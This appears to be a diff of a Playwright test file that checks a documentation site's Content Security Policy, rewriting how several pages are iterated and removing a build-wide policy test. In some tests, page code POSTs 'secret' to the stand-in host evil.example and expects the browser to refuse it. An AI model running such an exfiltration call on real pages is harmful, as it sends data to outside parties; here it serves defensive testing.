@@ -1,46 +1,15 @@
-import {readFileSync} from 'node:fs';
-import path from 'node:path';
 import type {Page} from '@playwright/test';
-import {filesIn} from '../../scripts/hosting/filesIn';
 import {policyGroup} from '../../src/components/content-policy/contentPolicy';
-import {inspectPage} from '../../scripts/hosting/pagePolicy';
 import {waitForHydration, open} from './support/pages';
 import {answers, field, openSearch} from './support/search';
 import {originOf} from './support/servers';
 import {expect, test} from './support/test';
-
-const policyOf = (html: string) =>
-  /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(
-    html,
-  )?.[1];
-
-test('every file of the site that is a page carries the policy of its group, before anything that could run', async () => {
-  const files = (await filesIn(path.resolve('build'))).filter((file) =>
-    file.endsWith('.html'),
-  );
-  const policies = new Map<string, Set<string>>();
-  for (const file of files) {
-    const html = readFileSync(path.resolve('build', file), 'utf8');
-    const policy = policyOf(html) ?? '';
-    const {group, needs} = inspectPage(html);
-    policies.set(group, (policies.get(group) ?? new Set()).add(policy));
-    expect(html.indexOf(policy), file).toBeLessThan(html.indexOf('<script'));
-    for (const source of Object.values(needs).flat()) {
-      expect(policy, file).toContain(source);
-    }
-    const [scripts = ''] = /script-src [^;]*/.exec(policy) ?? [];
-    expect(scripts, file).toContain("'sha256-");
-    expect(scripts, file).not.toMatch(/unsafe|\*|https?:|data:|blob:/);
-  }
-  expect([...policies.keys()].sort()).toEqual(['api', 'reading', 'tools']);
-  expect([...policies.values()].map(({size}) => size)).toEqual([1, 1, 1]);
-  expect(files.length).toBeGreaterThan(100);
-});
+import {inTurn} from './support/turns';
 
 test.describe('what somebody smuggles into a page', () => {
   test.use({provoked: /Content Security Policy|evil\.example/i});
 
-  for (const pathname of ['/guide/', '/zh/tool/', '/guide/api/fs']) {
+  for (const pathname of inTurn(['/guide/', '/zh/tool/', '/guide/api/fs'], 1)) {
     test(`does not run at ${pathname}`, async ({page}) => {
       await open(page, `${originOf('own')}${pathname}`);
       const refused = await page.evaluate(async () => {
@@ -91,14 +60,14 @@ test.describe('what somebody smuggles into a page', () => {
     });
   }
 
-  for (const pathname of [
-    '/tool/dropbox/request',
-    '/guide/api/authentication',
-    '/zh/guide/api/admin/',
-  ]) {
-    test(`sends nothing from ${pathname}, where no route is tried`, async ({
-      page,
-    }) => {
+  test('sends nothing from pages for credentials where no route is tried', async ({
+    page,
+  }) => {
+    for (const pathname of [
+      '/tool/dropbox/request',
+      '/guide/api/authentication',
+      '/zh/guide/api/admin/',
+    ]) {
       await open(page, `${originOf('own')}${pathname}`);
       const outcome = await page.evaluate(async () =>
         fetch('https://evil.example/', {method: 'POST', body: 'secret'}).then(
@@ -106,9 +75,9 @@ test.describe('what somebody smuggles into a page', () => {
           () => 'refused',
         ),
       );
-      expect(outcome).toBe('refused');
-    });
-  }
+      expect([pathname, outcome]).toEqual([pathname, 'refused']);
+    }
+  });
 });
 
 test('search violates no policy, also on pages for credentials', async ({
